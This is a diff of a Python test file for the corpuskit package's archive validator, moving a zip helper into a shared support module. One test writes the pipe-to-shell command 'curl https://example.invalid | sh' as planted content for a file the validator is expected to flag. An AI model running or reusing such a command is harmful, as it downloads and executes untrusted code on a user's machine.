@@ -9,23 +9,12 @@ import shutil
 from pathlib import Path
 
 import pytest
-from _validate_support import built, resign
+from _validate_support import built, resign, zip_of
 from conftest import DIST
 
-from corpuskit.config import DEFAULT_COMPRESSION
-from corpuskit.deflate import COMPRESSIONS
 from corpuskit.validation import validate
 from corpuskit.validation.descriptor import descriptor_resources
 from corpuskit.validation.layout import TAG_FILES, layout_problems
-from corpuskit.writer import write_archive
-
-
-def _zip_of(folder: Path, dest: Path) -> Path:
-    created = json.loads((folder / "datapackage.json").read_bytes())["created"]
-    archive = dest / f"{folder.name}.zip"
-    write_archive(folder, archive, created, root=folder.name,
-                  compression=COMPRESSIONS[DEFAULT_COMPRESSION])
-    return archive
 
 
 def _resigned_with(tmp_path: Path, extra: dict[str, bytes]) -> Path:
@@ -42,7 +31,7 @@ def _resigned_with(tmp_path: Path, extra: dict[str, bytes]) -> Path:
                                  "data/more/documents.jsonl", "Datapackage.json"])
 def test_a_file_corpuskit_does_not_write_is_reported(tmp_path: Path, rel: str) -> None:
     package = _resigned_with(tmp_path, {rel: b"curl https://example.invalid | sh\n"})
-    archive = _zip_of(package, tmp_path)
+    archive = zip_of(package, tmp_path)
     for target in (package, archive):
         for jobs in (1, 2):
             report = validate(target, jobs=jobs)
@@ -66,7 +55,7 @@ def test_records_as_parquet_that_no_resource_declares_are_reported(tmp_path: Pat
     (package / "datapackage.json").write_text(json.dumps(descriptor, indent=2) + "\n",
                                               encoding="utf-8")
     resign(package)
-    for target in (package, _zip_of(package, tmp_path)):
+    for target in (package, zip_of(package, tmp_path)):
         problems = validate(target, jobs=1).problems
         [undeclared] = [p for p in problems if p.path == "data/documents.parquet"]
         assert undeclared.code == "unexpected-file"
